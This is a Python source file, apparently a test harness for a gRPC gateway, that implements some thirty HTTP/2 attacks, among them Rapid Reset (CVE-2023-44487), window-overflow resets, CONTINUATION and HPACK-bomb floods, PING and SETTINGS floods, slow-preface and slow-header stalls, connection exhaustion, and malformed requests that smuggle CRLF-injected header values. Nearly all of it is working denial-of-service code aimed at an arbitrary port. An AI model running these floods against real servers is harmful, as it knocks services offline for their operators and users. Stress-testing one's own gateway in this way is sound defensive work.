"""One attack on HTTP/2, against a gateway.

    http2.py rapid_reset --port 8443 --ca certs/ca.crt --token T --path /a.B/C

Attacks until the gateway closes the connection or the time is over, as often
as `--times` says. Writes one JSON object: "ended" counts how the connections
ended ("ENHANCE_YOUR_CALM" and other GOAWAY codes, "closed", or "open" when the
time was over), "calls" how many calls were begun, "frames" how many were sent.
"""

import argparse
import json
import struct
import sys
import time

import wire
from wire import (ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, INITIAL_WINDOW_SIZE,
                  PING, PRIORITY, RST_STREAM, SETTINGS, WINDOW_UPDATE, Closed, Connection, frame)

CANCEL = struct.pack(">I", 8)
MOST_WINDOW = 2**31 - 1


class Attack:
    """What every attack needs, and what it counts."""

    def __init__(self, options):
        self.options = options
        self.calls = self.frames = self.answered = self.resets = self.data_bytes = 0
        self.ended = {}
        self.reached = []
        self.began = time.monotonic()

    def connection(self, **more):
        return Connection(self.options.port, self.options.ca, source=self.options.source, **more)

    def headers(self, connection, more=(), flags=END_HEADERS, path=None):
        """A call on a new stream; gives the stream's number and the frame."""

        self.calls += 1
        stream = connection.stream()
        more = [*more, *self.options.header]
        block = wire.call(path or self.options.path, self.options.token, more)
        return stream, frame(HEADERS, flags, stream, block)

    def flood(self, connection, make, batch=100):
        """Sends what `make` gives, in batches, until the time is over."""

        end = time.monotonic() + self.options.seconds
        while time.monotonic() < end:
            parts = [make() for _ in range(batch)]
            self.frames += batch
            connection.send(b"".join(parts))

    def run(self, attack):
        for _ in range(self.options.times):
            if self.options.calls and self.calls >= self.options.calls:
                break
            if self.options.total and time.monotonic() - self.began > self.options.total:
                break
            connections = []

            def connection(**more):
                connections.append(self.connection(**more))
                return connections[-1]

            how = "open"
            try:
                attack(self, connection)
            except Closed as closed:
                how = str(closed)
            except (OSError, TimeoutError) as error:
                how = type(error).__name__
            self.ended[how] = self.ended.get(how, 0) + 1
            for one in connections:
                self.answered += one.answered
                self.resets += one.resets
                self.data_bytes += one.data_bytes
                one.close()


def rapid_reset(attack, connect):
    """HEADERS and RST_STREAM in one breath (CVE-2023-44487)."""

    connection = connect()

    def pair():
        stream, headers = attack.headers(connection)
        return headers + frame(RST_STREAM, 0, stream, CANCEL)

    attack.flood(connection, pair, batch=50)


def waves(attack, connect):
    """Calls that reach their backend, and are then all reset."""

    connection = connect()
    end = time.monotonic() + attack.options.seconds
    while time.monotonic() < end:
        calls = [attack.headers(connection) for _ in range(attack.options.wave)]
        connection.send(b"".join(headers for _, headers in calls))
        connection.wait(attack.options.pause)
        resets = [frame(RST_STREAM, 0, stream, CANCEL) for stream, _ in calls]
        connection.send(b"".join(resets))


def continuation(attack, connect):
    """A header block without an end."""

    connection = connect()
    _, headers = attack.headers(connection, flags=0)
    connection.send(headers)
    more = frame(CONTINUATION, 0, 1, wire.literal("x-more", b"a" * 16000))
    attack.flood(connection, lambda: more, batch=1)


def continuation_empty(attack, connect):
    """The same without a byte of header."""

    connection = connect()
    _, headers = attack.headers(connection, flags=0)
    connection.send(headers)
    attack.flood(connection, lambda: frame(CONTINUATION, 0, 1))


def window_overflow(attack, connect):
    """Window updates that make the server reset (CVE-2025-8671)."""

    connection = connect()

    def pair():
        stream, headers = attack.headers(connection)
        return headers + frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", MOST_WINDOW))

    make_you_reset(attack, connection, pair)


def self_dependency(attack, connect):
    """A stream that depends on itself, which makes the server reset it."""

    connection = connect()

    def pair():
        stream, headers = attack.headers(connection)
        return headers + frame(PRIORITY, 0, stream, struct.pack(">IB", stream, 15))

    make_you_reset(attack, connection, pair)


def too_much_data(attack, connect):
    """More DATA than content-length said, which makes the server reset."""

    connection = connect()

    def pair():
        stream, headers = attack.headers(connection, [("content-length", "1")])
        return headers + frame(DATA, 0, stream, wire.message())

    make_you_reset(attack, connection, pair)


def half_trailers(attack, connect):
    """Trailers that do not end the stream, which makes the server reset."""

    connection = connect()

    def pair():
        stream, headers = attack.headers(connection)
        return headers + frame(HEADERS, END_HEADERS, stream, wire.literal("x-late", "1"))

    make_you_reset(attack, connection, pair)


def make_you_reset(attack, connection, pair):
    """Ten calls at a time, so that each is taken up before it is broken."""

    attack.flood(connection, pair, batch=attack.options.wave)


def zero_increment(attack, connect):
    """Window updates by nothing."""

    connection = connect()

    def pair():
        stream, headers = attack.headers(connection)
        return headers + frame(WINDOW_UPDATE, 0, stream, bytes(4))

    attack.flood(connection, pair)


def data_after_end(attack, connect):
    """DATA on streams that were ended."""

    connection = connect()

    def pair():
        stream, headers = attack.headers(connection, flags=END_HEADERS | END_STREAM)
        return headers + frame(DATA, 0, stream, wire.message())

    attack.flood(connection, pair)


def settings(attack, connect):
    """SETTINGS that move the windows of 100 open streams up and down."""

    connection = connect(settings=[(INITIAL_WINDOW_SIZE, 1)])
    for _ in range(100):
        connection.send(attack.headers(connection)[1])
    sizes = [struct.pack(">HI", INITIAL_WINDOW_SIZE, size) for size in (0, MOST_WINDOW // 2)]
    turn = iter(range(10**9))
    attack.flood(connection, lambda: frame(SETTINGS, payload=sizes[next(turn) % 2]))


def settings_unread(attack, connect):
    """SETTINGS whose acknowledgements nobody reads."""

    connection = connect(deaf=True, rcvbuf=4096)
    attack.flood(connection, lambda: frame(SETTINGS))


def ping(attack, connect):
    """PING, and the answers are read."""

    connection = connect()
    attack.flood(connection, lambda: frame(PING, payload=bytes(8)))


def ping_unread(attack, connect):
    """PING, and the answers are not read."""

    connection = connect(deaf=True, rcvbuf=4096)
    attack.flood(connection, lambda: frame(PING, payload=bytes(8)))


def pong(attack, connect):
    """Answers to a PING that was never sent."""

    connection = connect()
    attack.flood(connection, lambda: frame(PING, ACK, payload=bytes(8)))


def priority(attack, connect):
    """PRIORITY for streams that never come."""

    connection = connect()
    turn = iter(range(1, 10**9, 2))

    def one():
        stream = next(turn)
        return frame(PRIORITY, 0, stream, struct.pack(">IB", stream + 2, 15))

    attack.flood(connection, one)


def unknown(attack, connect):
    """Frames of a type that does not exist."""

    connection = connect()
    attack.flood(connection, lambda: frame(0xF0, payload=b"x"))


def window(attack, connect):
    """Window updates by one byte."""

    connection = connect()
    attack.flood(connection, lambda: frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)))


def data_empty(attack, connect):
    """DATA without a byte."""

    connection = connect()
    stream, headers = attack.headers(connection)
    connection.send(headers)
    attack.flood(connection, lambda: frame(DATA, 0, stream))


def data_tiny(attack, connect):
    """DATA of one byte each, as far as the windows of 100 streams allow."""

    connection = connect()
    streams = [attack.headers(connection) for _ in range(100)]
    connection.send(b"".join(headers for _, headers in streams))
    # A message of a million bytes has begun: each byte is one more of it.
    begin = wire.message()[:1] + struct.pack(">I", 1_000_000)
    connection.send(b"".join(frame(DATA, 0, stream, begin) for stream, _ in streams))
    turn = iter(range(100 * 100_000))
    try:
        attack.flood(connection, lambda: frame(DATA, 0, streams[next(turn) % 100][0], b"x"))
    except StopIteration:
        connection.wait(attack.options.seconds)


def zero_window(attack, connect):
    """Answers that nobody gives room for."""

    connection = connect(settings=[(INITIAL_WINDOW_SIZE, 0)])
    unread(attack, connection)
    connection.wait(attack.options.seconds)


def trickled_window(attack, connect):
    """Answers that are given room for a byte at a time."""

    connection = connect(settings=[(INITIAL_WINDOW_SIZE, 0)])
    streams = unread(attack, connection)
    turn = iter(range(10**9))
    one = struct.pack(">I", 1)
    attack.flood(connection,
                 lambda: frame(WINDOW_UPDATE, 0, streams[next(turn) % len(streams)], one))


def deaf(attack, connect):
    """Answers with all the room there is, and a socket that nobody reads."""

    connection = connect(settings=[(INITIAL_WINDOW_SIZE, MOST_WINDOW)], deaf=True, rcvbuf=4096)
    connection.send(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", MOST_WINDOW - 65535)))
    unread(attack, connection)
    time.sleep(attack.options.seconds)
    connection.read()


def unread(attack, connection):
    streams = []
    for _ in range(100):
        stream, headers = attack.headers(connection, path=attack.options.big)
        body = frame(DATA, END_STREAM, stream, wire.message())
        connection.send(headers + body)
        streams.append(stream)
    return streams


def hpack_bomb(attack, connect):
    """One field in the table, and thousands of references to it."""

    connection = connect()
    bomb = wire.kept("x-bomb", b"a" * 3900)
    first = wire.call(attack.options.path, attack.options.token) + bomb

    def one():
        attack.calls += 1
        stream = connection.stream()
        references = b"\xbe" * 12_000
        return frame(HEADERS, END_HEADERS | END_STREAM, stream, first + references)

    attack.flood(connection, one, batch=1)


def header_list(attack, connect):
    """Header lists of a third more than the limit."""

    connection = connect()
    parts = [wire.literal(f"x-{n}", b"a" * 7000) for n in range(6)]

    def one():
        stream, headers = attack.headers(connection, flags=END_STREAM)
        block = b"".join(parts)
        rest = [block[at:at + 16384] for at in range(0, len(block), 16384)]
        frames = [frame(CONTINUATION, 0, stream, part) for part in rest[:-1]]
        return headers + b"".join(frames) + frame(CONTINUATION, END_HEADERS, stream, rest[-1])

    attack.flood(connection, one, batch=1)


def many_headers(attack, connect):
    """Calls with a thousand small fields each."""

    connection = connect()
    fields = [(f"x-{n}", "") for n in range(1000)]

    def one():
        stream, headers = attack.headers(connection, fields, END_HEADERS | END_STREAM)
        return headers

    attack.flood(connection, one, batch=1)


def malformed(attack, connect):
    """Calls that are none (RFC 9113, 8.2 and 8.3), each on a connection of its own."""

    usual = {":method": "POST", ":scheme": "https", ":path": attack.options.path,
             ":authority": "localhost", "content-type": "application/grpc", "te": "trailers",
             "authorization": f"Bearer {attack.options.token}"}

    def fields(more=(), **changed):
        """The usual ones with some changed (`_path` is `:path`), and others after them."""

        changed = {name.replace("_", ":"): value for name, value in changed.items()}
        named = [(name, value) for name, value in {**usual, **changed}.items() if value is not None]
        return wire.block([*named, *more])

    path = attack.options.path
    blocks = {
        "path twice, first": wire.literal(":path", path) + fields(),
        "path twice": fields([(":path", path)]),
        "method twice": fields([(":method", "POST")]),
        "unknown pseudo-header": fields([(":unknown", "x")]),
        "status": fields([(":status", "200")]),
        "pseudo-headers after others": wire.literal("x-first", "1") + fields(),
        "protocol": wire.literal(":protocol", "websocket") + fields(_method="CONNECT"),
        "no method": fields(_method=None),
        "no scheme": fields(_scheme=None),
        "no path": fields(_path=None),
        "CONNECT": fields(_method="CONNECT", _path=None, _scheme=None),
        "two tokens": fields([("authorization", "Bearer x")]),
        "two lengths": fields([("content-length", "0"), ("content-length", "1")]),
        **{f"method {text!r}": fields(_method=text) for text in ("", "PO ST", "post")},
        **{f"authority {text!r}": fields(_authority=text) for text in ("a b", "a\r\nb", "a/b")},
        **{f"path {text!r}": fields(_path=text) for text in (
            "", "*", path[1:], path + " x", path + "\r\nx: y", path + "\0", path + "\t",
            path + "?x", path + "\xff", "/" + path)},
        **{f"{name!r} {value!r}": fields([(name, value)]) for name, value in (
            ("connection", "close"), ("connection", "authorization"), ("keep-alive", "1"),
            ("proxy-connection", "close"), ("transfer-encoding", "chunked"), ("upgrade", "h2c"),
            ("te", "gzip"), ("X-Upper", "1"), ("x space", "1"), ("x\r\ny", "1"), ("", "1"),
            ("x:y", "1"), ("x-y", "a\r\nb: c"), ("x-y", "a\0"), ("content-length", "7"),
            ("content-length", "-1"), ("content-length", "+0"))},
        # The script itself must be right.
        "well formed": fields(),
    }
    for name, block in blocks.items():
        connection = connect()
        attack.calls += 1
        try:
            connection.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, block))
            connection.wait(5, lambda: connection.resets or connection.answered)
        except Closed as closed:
            attack.ended[str(closed)] = attack.ended.get(str(closed), 0) + 1
        # Only the backend answers with a message.
        if connection.data_bytes:
            attack.reached.append(name)


def slow_preface(attack, connect):
    """TLS, and then nothing."""

    tls = wire.connect(attack.options.port, attack.options.ca, "h2", attack.options.source)
    tls.settimeout(attack.options.seconds)
    tls.send(wire.PREFACE[:10])
    await_end(tls)


def slow_headers(attack, connect):
    """A header block that comes byte by byte."""

    connection = connect()
    _, headers = attack.headers(connection)
    end = time.monotonic() + attack.options.seconds
    for byte in headers:
        connection.send(bytes([byte]))
        connection.wait(0.2)
        if time.monotonic() > end:
            return


def silent(attack, connect):
    """A TCP connection that never begins TLS."""

    tcp = wire.dial(attack.options.port, attack.options.source)
    tcp.settimeout(attack.options.seconds)
    await_end(tcp)


def await_end(stream):
    while True:
        try:
            if not stream.recv(4096):
                raise Closed("closed")
        except TimeoutError:
            return


def connections(attack, connect):
    """As many connections as there may be, and ten more."""

    held = []
    for _ in range(attack.options.wave + 10):
        held.append(wire.dial(attack.options.port, attack.options.source))
        attack.frames += 1
    time.sleep(attack.options.seconds)
    ended = 0
    for tcp in held:
        tcp.setblocking(False)
        try:
            ended += tcp.recv(1) == b""
        except BlockingIOError:
            pass
        except OSError:
            ended += 1
    attack.resets = ended
    if ended:
        raise Closed("closed")


ATTACKS = [
    rapid_reset, waves, continuation, continuation_empty, window_overflow, self_dependency,
    too_much_data, half_trailers, zero_increment, data_after_end, settings, settings_unread,
    ping, ping_unread, pong, priority, unknown, window, data_empty, data_tiny, zero_window,
    trickled_window, deaf, hpack_bomb, header_list, many_headers, malformed, slow_preface, slow_headers,
    silent, connections,
]


def main():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("attack", choices=[attack.__name__ for attack in ATTACKS])
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--ca", required=True)
    parser.add_argument("--token", help="none: the calls are refused")
    parser.add_argument("--path", default="/foreign.Service/Method", help="of calls")
    parser.add_argument("--big", default="/foreign.Service/Big", help="of calls with long answers")
    parser.add_argument("--seconds", type=float, default=5, help="for one connection (5)")
    parser.add_argument("--times", type=int, default=1, help="connections, one after another (1)")
    parser.add_argument("--calls", type=int, help="no more connections after so many calls")
    parser.add_argument("--total", type=float, help="no more connections after so many seconds")
    parser.add_argument("--from", dest="source", help="the address to connect from")
    parser.add_argument("--wave", type=int, default=10, help="calls at a time, where it matters")
    parser.add_argument("--pause", type=float, default=0.01, help="before the calls are reset")
    parser.add_argument("--header", type=lambda text: text.split("="), action="append",
                        default=[], help="NAME=VALUE, one more for each call")
    options = parser.parse_args()
    attack = Attack(options)
    started = time.monotonic()
    attack.run(globals()[options.attack])
    print(json.dumps({
        "attack": options.attack, "ended": attack.ended, "calls": attack.calls,
        "frames": attack.frames, "answered": attack.answered, "resets": attack.resets,
        "data_bytes": attack.data_bytes, "reached": attack.reached, "seconds": round(time.monotonic() - started, 2),
    }), flush=True)


if __name__ == "__main__":
    sys.exit(main())
